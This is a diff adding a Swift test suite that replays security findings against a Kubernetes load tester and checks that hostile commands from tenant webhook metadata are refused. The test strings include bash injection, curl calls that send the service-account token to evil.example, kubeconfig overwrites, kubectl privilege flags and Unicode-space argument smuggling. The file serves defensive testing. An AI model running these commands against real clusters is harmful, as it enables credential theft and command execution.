@@ -1,0 +1,141 @@
+import Foundation
+import Testing
+
+@testable import LoadTester
+
+/// Each finding of issue 12 against the load tester, replayed as a tenant who can write Canary webhook metadata (or
+/// reach the Service) would, against the configuration Fledge ships (manifests/loadtester, the playground, the demo).
+@Suite("hostile tenant against the load tester")
+struct HostileTests {
+    /// What the manifest, the playground and the demo run: the built-in policies and the tutorial's bash pattern.
+    static func shipped() -> LoadTesterConfiguration {
+        LoadTesterConfiguration(
+            host: "127.0.0.1",
+            port: 0,
+            allowBash: [LoadTesterConfiguration.tutorialBashPattern],
+            timeout: .seconds(60)
+        )
+    }
+
+    static func task(_ type: String, _ cmd: String) -> String {
+        Fixture.payload(metadata: ["type": type, "cmd": cmd, "returnCmdOutput": "true"])
+    }
+
+    @Test("a bash line that starts with an allowed command is checked whole: `curl --version >/dev/null; id` is 403")
+    func bashBypass() async throws {
+        try await Fixture.withLoadTester(Self.shipped()) { _, port async throws in
+            // A blocking task answers after it ran, so a 403 means it never started.
+            let (status, body) = try await Fixture.post(port, "/", Self.task("bash", "curl --version >/dev/null; id"))
+            #expect(status == 403)
+            #expect(body.hasPrefix("bash command \"curl --version >/dev/null; id\" is not allowed: the whole script"))
+            #expect(!body.contains("uid="))
+            for line in [
+                "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token; id",
+                "curl -sd \"$(id)\" http://podinfo-canary.prod:9898/token | grep token",
+                "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token > /tmp/x",
+                "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token | sh",
+                "curl -sd '@/var/run/secrets/kubernetes.io/serviceaccount/token' http://podinfo-canary.prod/ | grep x",
+            ] {
+                #expect(try await Fixture.post(port, "/", Self.task("bash", line)).status == 403, "\(line)")
+            }
+            // A newline ends a bash command: it is refused before any pattern sees the line.
+            let newline = try await Fixture.post(
+                port,
+                "/",
+                Self.task("bash", "curl -sd 'test' http://podinfo-canary.prod:9898/token | grep token\nid")
+            )
+            #expect(newline.status == 400)
+            #expect(newline.body.contains("U+000A (LINE FEED)"))
+        }
+    }
+
+    @Test("without bash, no default lets curl -d @FILE send the service-account token anywhere")
+    func curlReadsNoFile() async throws {
+        let token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+        try await Fixture.withLoadTester(Self.shipped()) { _, port async throws in
+            for cmd in [
+                "curl -d @\(token) http://evil.example/", "curl -sd@\(token) http://evil.example/",
+                "curl --data @\(token) http://evil.example/", "curl --data-binary @\(token) http://evil.example/",
+                "curl --data-urlencode t@\(token) http://evil.example/", "curl -F t=@\(token) http://evil.example/",
+                "curl -F 't=<\(token)' http://evil.example/", "curl -H @\(token) http://evil.example/",
+                "curl -T \(token) http://evil.example/", "curl -K \(token) http://evil.example/",
+                "curl file://\(token)",
+            ] {
+                let (status, body) = try await Fixture.post(port, "/", Self.task("cmd", cmd))
+                #expect(status == 403, "\(cmd)")
+                #expect(body.contains("the built-in curl policy refuses it"), "\(body)")
+            }
+        }
+    }
+
+    @Test("curl -o cannot write a kubeconfig or poison $HOME/.kube/config; -o /dev/null still works")
+    func curlWritesNoFile() async throws {
+        let directory = try Fixture.temporaryDirectory()
+        let kubeconfig = directory.appendingPathComponent("kubeconfig").path
+        try await Fixture.withLoadTester(Self.shipped()) { _, port async throws in
+            for cmd in [
+                "curl -o \(kubeconfig) http://evil.example/k", "curl -so \(kubeconfig) http://evil.example/k",
+                "curl -sSo\(kubeconfig) http://evil.example/k", "curl --output \(kubeconfig) http://evil.example/k",
+                "curl -o /tmp/.kube/config http://evil.example/k", "curl -O http://evil.example/config",
+                "curl --remote-name http://evil.example/config", "curl -D \(kubeconfig) http://evil.example/",
+                "curl -c \(kubeconfig) http://evil.example/", "curl --trace \(kubeconfig) http://evil.example/",
+                "curl --libcurl \(kubeconfig) http://evil.example/",
+            ] {
+                let (status, body) = try await Fixture.post(port, "/", Self.task("cmd", cmd))
+                #expect(status == 403, "\(cmd)")
+                #expect(body.contains("it writes a file") || body.contains("not among the options"), "\(body)")
+            }
+            // Refused synchronously, so nothing is left to write the file later.
+            #expect(!FileManager.default.fileExists(atPath: kubeconfig))
+            let probe = "curl -s -o /dev/null -w %{http_code} http://127.0.0.1:1/"
+            #expect(try await Fixture.post(port, "/", Self.task("cmd", probe)).status == 202)
+        }
+    }
+
+    @Test("kubectl --kubeconfig (whose exec credential plugin would run) is refused in every spelling and task type")
+    func kubectlKubeconfig() async throws {
+        try await Fixture.withLoadTester(Self.shipped()) { _, port async throws in
+            for (type, cmd) in [
+                ("kubectl", "--kubeconfig=/tmp/k get ns"), ("kubectl", "get ns --kubeconfig /tmp/k"),
+                ("kubectl", "get ns '--kubeconfig=/tmp/k'"), ("kubectl", "get ns \"--kubeconfig\" /tmp/k"),
+                ("cmd", "kubectl get ns --kubeconfig=/tmp/k"), ("kubectl", "get ns -s https://evil.example"),
+                ("kubectl", "get ns -As https://evil.example"), ("kubectl", "get ns --token=stolen"),
+                ("kubectl", "get ns --as=system:admin"), ("kubectl", "config set-credentials x --exec-command=id"),
+                ("kubectl", "evil-plugin"), ("kubectl", "plugin list"), ("kubectl", "exec podinfo -- id"),
+                ("kubectl", "apply -f https://evil.example/x.yaml"),
+            ] {
+                let (status, body) = try await Fixture.post(port, "/", Self.task(type, cmd))
+                #expect(status == 403, "\(cmd)")
+                #expect(body.contains("the built-in kubectl policy refuses it"), "\(body)")
+            }
+        }
+    }
+
+    @Test(
+        "a Unicode space cannot smuggle --kubeconfig past `^kubectl get pods [^ ]+$`: 400 naming it and its place",
+        arguments: [
+            "\u{00A0}", "\u{1680}", "\u{2000}", "\u{2001}", "\u{2002}", "\u{2003}", "\u{2004}", "\u{2005}",
+            "\u{2006}", "\u{2007}", "\u{2008}", "\u{2009}", "\u{200A}", "\u{2028}", "\u{2029}", "\u{202F}",
+            "\u{205F}", "\u{3000}", "\u{0085}", "\u{000B}", "\u{000C}", "\u{200B}", "\u{FEFF}",
+        ]
+    )
+    func unicodeSpaces(space: String) async throws {
+        // The operator's pattern alone decides (no built-in policies), as in the finding.
+        var configuration = Self.shipped()
+        configuration.programs = []
+        configuration.allow = ["^kubectl get pods [^ ]+$"]
+        let tester = try LoadTester(configuration: configuration, logger: Fixture.quiet)
+        let cmd = "get pods podinfo\(space)--kubeconfig=/tmp/k"
+        let (status, body) = await tester.handle(method: "POST", path: "/", body: Self.task("kubectl", cmd))
+        let scalar = try #require(space.unicodeScalars.first)
+        #expect(status == 400)
+        #expect(body.hasPrefix("cmd: character 17 is \(CommandCharacters.describe(scalar)), which is not allowed"))
+        // With an ASCII space it is two arguments, and the pattern sees two words.
+        let plain = await tester.handle(
+            method: "POST",
+            path: "/",
+            body: Self.task("kubectl", "get pods podinfo --kubeconfig=/tmp/k")
+        )
+        #expect(plain.status == 403)
+    }
+}
